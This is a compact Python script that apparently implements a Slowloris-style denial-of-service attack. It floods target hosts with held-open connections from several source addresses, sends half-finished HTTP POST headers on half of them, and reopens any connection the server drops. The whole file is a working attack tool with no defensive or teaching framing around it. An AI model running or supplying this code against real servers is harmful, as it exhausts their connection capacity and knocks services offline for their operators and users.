"""Holds requests without an end, half of them without even a beginning, and opens each anew that is ended."""

import resource, select, socket, sys

resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
each, targets, sources = int(sys.argv[1]), sys.argv[2].split(), sys.argv[3].split()
opened = 0


def open_one(number, target, poll, held):
    global opened
    address, port = target.rsplit(":", 1)
    stream = socket.socket()
    stream.setblocking(False)
    try:
        stream.bind((sources[number % len(sources)], 0))
        stream.connect((address, int(port)))
    except BlockingIOError:
        pass
    except OSError:
        return stream.close()
    held[stream.fileno()] = (stream, number, target)
    poll.register(stream, select.EPOLLOUT | select.EPOLLIN)
    opened += 1


poll, held = select.epoll(), {}
for number in range(each):
    for target in targets:
        open_one(number, target, poll, held)
print("holds", len(held), flush=True)
while True:
    for descriptor, events in poll.poll(1.0, 256):
        stream, number, target = held[descriptor]
        ended = events & (select.EPOLLERR | select.EPOLLHUP)
        try:
            if not ended and events & select.EPOLLOUT:
                if number % 2:
                    stream.send(b"POST /v1/recovered HTTP/1.1\r\nContent-Length: 999\r\nX: ")
                poll.modify(stream, select.EPOLLIN)
            elif not ended:
                ended = not stream.recv(4096)
        except OSError:
            ended = True
        if ended:
            poll.unregister(descriptor)
            del held[descriptor]
            stream.close()
            open_one(number, target, poll, held)
